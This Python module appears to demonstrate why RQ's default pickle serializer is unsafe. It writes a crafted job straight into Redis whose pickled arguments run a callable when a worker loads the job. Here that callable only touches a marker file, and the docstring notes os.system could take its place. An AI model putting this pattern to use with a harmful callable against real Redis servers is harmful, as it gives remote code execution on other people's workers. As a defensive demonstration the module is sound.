"""Why RQ's default serializer (pickle) is dangerous: a job written straight into Redis.

This is what an attacker who can write to your Redis (an exposed port, a leaked password,
another service on the same server) could do: no access to your code, no call to your
API, just a few Redis commands. When a worker that uses pickle loads the job, unpickling
calls whatever the payload names. Here that is a harmless `Path.touch` of a marker file;
it could as well be `os.system`.
"""

from __future__ import annotations

import pickle
import uuid
import zlib
from datetime import datetime, timezone
from pathlib import Path

from redis import Redis


class _TouchOnLoad:
    """Pickles into "call Path.touch(marker)": unpickling creates the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def write_crafted_job(redis: Redis, queue_name: str, marker: Path) -> str:
    """Put a job on `queue_name` with raw Redis commands; return its id.

    The job's data is RQ's format, (function name, instance, args, kwargs), pickled and
    zlib-compressed, with the payload hidden in the arguments."""
    job_id = str(uuid.uuid4())
    data = ("builtins.print", None, (_TouchOnLoad(marker),), {})
    now = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    redis.hset(
        f"rq:job:{job_id}",
        mapping={
            "data": zlib.compress(pickle.dumps(data)),
            "origin": queue_name,
            "status": "queued",
            "description": "an innocent-looking job",
            "created_at": now,
            "enqueued_at": now,
        },
    )
    redis.rpush(f"rq:queue:{queue_name}", job_id)
    return job_id
